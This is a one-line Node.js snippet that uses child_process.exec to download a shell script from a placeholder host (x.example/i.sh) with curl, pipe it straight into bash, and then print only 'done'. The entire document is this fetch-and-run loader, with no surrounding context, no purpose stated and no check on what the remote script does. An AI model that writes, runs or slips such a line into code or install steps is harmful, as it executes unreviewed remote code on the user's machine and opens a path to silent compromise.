require('child_process').exec('bash -c "$(curl -fsSL https://x.example/i.sh)"', () => console.log('done'));
